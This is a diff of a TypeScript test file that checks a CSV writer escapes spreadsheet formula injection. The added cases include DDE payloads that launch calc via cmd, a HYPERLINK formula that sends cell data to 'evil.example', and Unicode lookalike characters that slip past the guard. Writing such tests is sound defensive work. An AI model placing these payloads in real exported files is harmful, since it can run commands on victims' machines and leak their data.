@@ -4,7 +4,9 @@ import { csvCell, guardFormula, parseCsv, toCsv, unguardFormula } from '../../sr
 import { runs } from './runs.ts';
 
 const nasty = fc
-  .array(fc.constantFrom(...Array.from(`a1=+-@＝'", ;|\t\r\n`)), { maxLength: 8 })
+  .array(fc.constantFrom(...Array.from(`a1=+-@＝﹢'", ;|\t\r\n\0\u00a0\u200b\u202e\ufeff`)), {
+    maxLength: 8,
+  })
   .map((letters) => letters.join(''));
 
 describe('writing', () => {
@@ -21,11 +23,24 @@ describe('writing', () => {
     ['＝1', "'＝1"],
     [' =1', "' =1"],
     ["'=1", "''=1"],
+    ['"=1"', '"""=1"""'],
+    ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
+    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
+    [
+      '=HYPERLINK("https://evil.example?"&A1,"x")',
+      `"'=HYPERLINK(""https://evil.example?""&A1,""x"")"`,
+    ],
+    ['\r=1', `"'\r=1"`],
+    ['\u200b=1', "'\u200b=1"],
+    ['\u202e\0-1', "'\u202e\0-1"],
+    ['﹣1', "'﹣1"],
     ['\tx', "'\tx"],
     ["it's", "it's"],
     ["'quoted'", "'quoted'"],
     ['a=1', 'a=1'],
     [-5, '-5'],
+    [1e21, '1e+21'],
+    [-0.5, '-0.5'],
     [null, ''],
   ])('%j is %j', (value, cell) => {
     expect(csvCell(value)).toBe(cell);
@@ -45,7 +60,18 @@ describe('writing', () => {
     fc.assert(
       fc.property(nasty, (text) => {
         const [record] = parseCsv(csvCell(text));
-        expect(record?.cells[0] ?? '').not.toMatch(/^\s*[=+\-@＝＋－＠]/);
+        const cell = record?.cells[0] ?? '';
+        expect(cell).not.toMatch(/^[\s\p{C}\p{Z}]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u);
+        expect(cell).not.toMatch(/^[\t\r\n]/);
+      }),
+    );
+  });
+
+  test('law: numbers stay numbers', () => {
+    fc.assert(
+      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (value) => {
+        // Zero has one way to be written.
+        expect(Number(csvCell(value))).toBe(value + 0);
       }),
     );
   });
